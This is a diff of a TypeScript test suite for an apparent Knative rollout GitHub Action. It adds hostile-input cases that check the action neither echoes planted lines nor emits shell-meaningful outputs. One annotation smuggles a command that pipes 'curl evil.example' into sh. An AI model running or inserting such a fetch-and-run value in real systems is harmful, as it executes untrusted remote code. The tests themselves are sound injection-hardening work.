@@ -78,6 +78,13 @@ interface Ctx {
   deploy(service: string): Promise<void>
   /** Sets state annotations on `service` as someone else (kubectl annotate would). */
   annotate(service: string, annotations: Record<string, string>): Promise<void>
+  /** The Service's spec.traffic entries with a share: `revision percent`. */
+  shares(service: string): string[]
+  /** A first deploy of `service`, then a rollout of v2 paused at 20%. */
+  pause(service: string): Promise<void>
+  /** Scripts standing in for tools: `buildah` (on PATH) and a gcp auth-provider's command. */
+  bin: string
+  authProvider: string
 }
 
 interface Row {
@@ -91,6 +98,10 @@ interface Row {
   secrets?: string[]
   /** What the run must show (stdout, stderr or the summary): proof it met its source. */
   shows: RegExp
+  /** The GitHub stand-in answers every request with this status and error message. */
+  github?: { failWith: number; message: string }
+  /** What else the row must find once the run ended (the cluster it left). */
+  after?: (ctx: Ctx) => void
 }
 
 /** A Prometheus-backed rollout of `service` to v2 against `path` on the hostile server. */
@@ -377,6 +388,73 @@ const ROWS: Row[] = [
     inputs: async () => ({}), // set up in the test (it needs a repository of its own)
     shows: /PWNED/
   },
+  {
+    name: 'a hostile image annotation read by status',
+    source: "the Service's own rollout.knative-rollout.dev/* annotations",
+    service: 'annimage',
+    inputs: async (c) => {
+      await c.deploy('annimage')
+      await c.annotate('annimage', {
+        [`${STATE_PREFIX}phase`]: 'rolled-back',
+        [`${STATE_PREFIX}current`]: 'annimage-v1',
+        [`${STATE_PREFIX}image`]: `ghcr.io/acme/annimage:1$(curl evil.example|sh)\n${PAYLOADS[0]}`
+      })
+      return { command: 'status', service: 'annimage' }
+    },
+    shows: /image is not an image reference; read as none/
+  },
+  {
+    name: 'abort with a garbled candidate annotation still takes the candidate to 0%',
+    source: "the Service's own rollout.knative-rollout.dev/* annotations",
+    service: 'anngarbled',
+    inputs: async (c) => {
+      await c.pause('anngarbled')
+      await c.annotate('anngarbled', {
+        [`${STATE_PREFIX}candidate`]: `anngarbled-v2\n${PAYLOADS[0]}`
+      })
+      return { command: 'abort', service: 'anngarbled' }
+    },
+    shows: /its traffic gives anngarbled-v2 20%(25)?: aborting that split/,
+    after: (c) => expect(c.shares('anngarbled')).toEqual(['anngarbled-v1 100'])
+  },
+  {
+    name: "a gcp auth-provider command's stderr",
+    source: 'kubeconfig auth-provider stderr',
+    service: 'provider',
+    inputs: async (c) => ({
+      service: 'provider',
+      image: 'ghcr.io/acme/provider:1',
+      kubeconfig: kubeconfigWith(c.apiUrl, {
+        'auth-provider': {
+          name: 'gcp',
+          config: { 'cmd-path': c.authProvider, 'token-key': '{.token}', 'expiry-key': '{.expiry}' }
+        }
+      })
+    }),
+    shows: /credential plugin "auth-provider"/
+  },
+  {
+    name: "a builder's output (buildah prints the planted lines and fails)",
+    source: 'build tool output (buildah, docker)',
+    service: 'built',
+    inputs: async (c) => ({
+      service: 'built',
+      'build-context': 'test/fixtures/build/hello',
+      image: `127.0.0.1:${c.closedPort}/acme/built`,
+      builder: 'buildah',
+      'registry-insecure': 'true'
+    }),
+    env: (c) => ({ PATH: `${c.bin}:${process.env.PATH ?? '/usr/bin:/bin'}` }),
+    shows: /buildah .*failed \(exit 1\)/
+  },
+  {
+    name: "GitHub's error message for the Deployment and the PR comment",
+    source: 'GitHub API error bodies',
+    service: 'ghfail',
+    inputs: rolloutV2('ghfail'),
+    github: { failWith: 500, message: `${HOSTILE}\n${MENTION}` },
+    shows: /GitHub deployment: GitHub API POST .* answered 500: crashed\\n/
+  },
   // ---- 2. secrets: never printed, stored or sent, in any form ---------------------------
   {
     name: 'a kubeconfig server URL with user:password@ that cannot be reached',
@@ -599,6 +677,20 @@ describe('the hostile catalogue through the built action', () => {
         s.close(() => resolve(port))
       })
     })
+    // Stand-ins for tools that print the planted lines: Node scripts, so no shell quoting.
+    const bin = join(dir, 'bin')
+    await mkdir(bin)
+    const printer = (extra: string) =>
+      `#!${process.execPath}\n${extra}\nconst t = Buffer.from('${Buffer.from(HOSTILE).toString('base64')}', 'base64').toString()\nprocess.stdout.write(t + '\\n')\nprocess.stderr.write(t + '\\n')\nprocess.exit(1)\n`
+    await writeFile(
+      join(bin, 'buildah'),
+      printer(
+        "if (process.argv[2] === '--version') { console.log('buildah version 1.37.0'); process.exit(0) }"
+      )
+    )
+    await writeFile(join(dir, 'auth-provider'), printer(''))
+    chmodSync(join(bin, 'buildah'), 0o755)
+    chmodSync(join(dir, 'auth-provider'), 0o755)
     const kubeconfig = readFileSync(emulator().kubeconfigPath, 'utf8')
     githubEnv = {
       GITHUB_API_URL: github.url,
@@ -619,6 +711,33 @@ describe('the hostile catalogue through the built action', () => {
       bearerRegistry: `127.0.0.1:${bearerPort}`,
       closedPort,
       workspace,
+      bin,
+      authProvider: join(dir, 'auth-provider'),
+      shares(service) {
+        const live = emulator().store.get('services.serving.knative.dev', 'default', service)
+        const traffic = (live?.spec as { traffic?: { revisionName?: string; percent?: number }[] })
+          ?.traffic
+        return (traffic ?? []).filter((t) => t.percent).map((t) => `${t.revisionName} ${t.percent}`)
+      },
+      async pause(service) {
+        await ctx.deploy(service)
+        const run = await runAction(
+          {
+            ...FAST,
+            kubeconfig,
+            manifest: await ctx.file(
+              `${service}-v2.yaml`,
+              serviceYaml(service, `ghcr.io/acme/${service}:2`)
+            ),
+            'revision-name': `${service}-v2`,
+            'ingress-address': emulator().ingressUrl,
+            'pause-at': '20'
+          },
+          { env: { GITHUB_WORKSPACE: workspace } }
+        )
+        if (parseFileCommands(run.files.output).result !== 'paused')
+          throw new Error(`pausing ${service}:\n${run.stdout}\n${run.stderr}`)
+      },
       async file(name, content) {
         const path = join(workspace, name)
         await writeFile(path, content)
@@ -701,15 +820,23 @@ describe('the hostile catalogue through the built action', () => {
       const git = row.source.startsWith('git output') ? await gitRow(row) : undefined
       const inputs = git?.inputs ?? (await row.inputs(ctx))
       const before = github.requests.length
-      const run: DistRun = await runAction(
-        {
-          kubeconfig: ctx.kubeconfig,
-          'github-token': GITHUB_TOKEN,
-          environment: 'production',
-          ...inputs
-        },
-        { env: { ...githubEnv, ...git?.env, ...row.env?.(ctx) }, killAfterMs: 120_000 }
-      )
+      github.failWith = row.github?.failWith
+      github.failMessage = row.github?.message
+      let run: DistRun
+      try {
+        run = await runAction(
+          {
+            kubeconfig: ctx.kubeconfig,
+            'github-token': GITHUB_TOKEN,
+            environment: 'production',
+            ...inputs
+          },
+          { env: { ...githubEnv, ...git?.env, ...row.env?.(ctx) }, killAfterMs: 120_000 }
+        )
+      } finally {
+        github.failWith = undefined
+        github.failMessage = undefined
+      }
       const printed = `${run.stdout}\n${run.stderr}`
       expect(run.code).not.toBe(-1) // it ended by itself
       // It met its source.
@@ -721,11 +848,16 @@ describe('the hostile catalogue through the built action', () => {
       expect(commands.filter((c) => c.name === 'stop-commands')).toEqual([])
       expect(commands.filter((c) => c.name === 'add-mask' && c.line.includes('PWNED'))).toEqual([])
 
-      // Outputs: one line each; a revision is a DNS-1035 label.
+      row.after?.(ctx)
+
+      // Outputs: one line each, nothing a shell reads as more than a word outside the JSON
+      // ones; a revision is a DNS-1035 label.
       const outputs = parseFileCommands(run.files.output)
       expect(outputs.result).toBeDefined()
       for (const [name, value] of Object.entries(outputs)) {
         expect([name, value]).not.toEqual([name, expect.stringMatching(/[\r\n]/)])
+        if (name !== 'traffic' && name !== 'results')
+          expect([name, value]).not.toEqual([name, expect.stringMatching(/[\s'"`$;()<>|&\\]/)])
         if (/revision$/.test(name) && value)
           expect([name, value]).toEqual([
             name,
@@ -807,7 +939,10 @@ describe('the hostile catalogue through the built action', () => {
       'manifest symlink out of workspace',
       'multi-line secrets',
       'git output in git mode',
-      'PR comment @mentions and links'
+      'PR comment @mentions and links',
+      'kubeconfig auth-provider stderr',
+      'build tool output',
+      'GitHub API error bodies'
     ])
       expect(classes).toContain(c)
   })
